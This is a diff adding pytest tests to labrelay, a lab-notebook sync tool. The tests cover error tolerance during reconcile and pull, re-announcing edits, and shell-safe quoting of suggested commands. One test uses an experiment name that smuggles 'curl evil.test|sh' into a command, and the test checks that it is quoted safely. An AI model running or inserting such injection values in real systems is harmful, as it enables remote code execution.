@@ -14,6 +14,7 @@ sys.path.insert(0, str(Path(__file__).parents[1] / "records" / "eln"))
 
 from fake import FakeNotebook, Hands, killed_at
 
+from labrelay.cli.eln import told
 from labrelay.cli.main import labrelay as command
 from labrelay.model.errors import Busy, RefusedInput, UsageError
 from labrelay.model.qc import Verdict
@@ -378,6 +379,90 @@ def test_two_experiments_of_one_name_are_not_merged_before_a_person_says_so(
     assert taken.added == ["gamma"]
     hands.announce("8", EXPERIMENT, {"delta": ""})
     assert "the entry 7 announces one of this name" in pull(home).waiting[0][1]
+
+
+def test_one_bad_entry_does_not_keep_the_others_from_being_compared(
+    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for n in range(1, 6):
+        hands.announce(str(n), f"study-{n}", {"s": ""})
+    pull(home)
+    deliver(home)
+    for n in range(1, 6):
+        hands.remove(str(n), "status")
+    real, asked, bad = notebook.read, [], {"1": Undeliverable("it answered 500", retry=True), "2": TypeError("none")}
+
+    def read(external_id: str) -> Any:
+        asked.append(external_id)
+        if external_id in bad:
+            raise bad[external_id]
+        return real(external_id)
+
+    monkeypatch.setattr(notebook, "read", read)
+    done = eln.reconcile(home)
+    assert (done.looked, done.repaired) == (3, 3)
+    assert done.problems[0] == "it answered 500"
+    assert "an unexpected error stopped it (TypeError), see the log" in done.problems[1]
+    eln.reconcile(home, most=3)
+    bad |= {str(n): Undeliverable("it answered 500", retry=True) for n in range(1, 6)}
+    asked.clear()
+    assert eln.reconcile(home, most=5).looked == 0
+    assert asked[:2] != ["1", "2"], "those that failed have had their turn"
+    assert len(asked) == 3, "three in a row: it is not the entries"
+    bad |= {str(n): Undeliverable("nobody answered", retry=True, down=True) for n in range(1, 6)}
+    asked.clear()
+    eln.reconcile(home)
+    assert len(asked) == 1
+
+
+def test_an_error_that_nobody_thought_of_stops_neither_the_pull_nor_the_sweep(
+    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def stumbles(*_given: object) -> Any:
+        raise TypeError("string indices must be integers")
+
+    for n in "12":
+        hands.announce(n, f"study-{n}", {"s": ""})
+    real = eln_news._announce
+    monkeypatch.setattr(
+        eln_news, "_announce", lambda *given: stumbles() if given[2].external_id == "1" else real(*given)
+    )
+    done = pull(home)
+    assert [taken.experiment.name for taken in done.taken] == ["study-2"]
+    assert [entry for entry, _reason in done.waiting] == ["1"]
+    assert eln.status(home).waiting[0].problem == done.waiting[0][1]
+    assert "an unexpected error stopped it (TypeError), see the log" in done.waiting[0][1]
+    monkeypatch.setattr(notebook, "announced_since", stumbles)
+    swept = sweep(home)
+    assert "the sweep's part pull was stopped by an unexpected error (TypeError): see the log" in swept.problems
+    assert swept.entries == 2, "the comparison went on"
+
+
+def test_the_commands_that_are_suggested_hold_no_text_that_a_shell_would_run(home: Home, hands: Hands) -> None:
+    name = "flu; curl evil.test|sh #"
+    for entry in ("9", "8"):
+        hands.announce(entry, name, {"x": ""})
+    [(_entry, reason)] = pull(home).waiting
+    assert f"`labrelay eln link '{name}' 8`" in reason
+    deliver(home)
+    hands.edit("9", "status")
+    eln.reconcile(home)
+    assert f"labrelay eln settle '{name}' status --keep" in told(eln.status(home))[0]
+    hands.close("9", "deleted")
+    assert f"`labrelay eln settle '{name}' entry --keep ours`" in eln.reconcile(home).problems[0]
+
+
+def test_an_edit_that_is_taken_back_is_told_again(home: Home, hands: Hands, notebook: FakeNotebook) -> None:
+    def edited(version: str) -> int:
+        hands.announce("7", "study-7", {"s": ""}, title=f"Title {version}")
+        with notebook.state() as state:
+            state["announced"][0]["version"] = version  # as of a notebook that hashes what it announces
+        assert len(pull(home).taken) == 1
+        waiting = eln.status(home).messages
+        deliver(home)
+        return waiting
+
+    assert [edited(version) for version in "ABA"] == [1, 1, 1]
 
 
 def test_a_sample_that_is_gone_from_the_entry_stays_here(home: Home, hands: Hands) -> None:
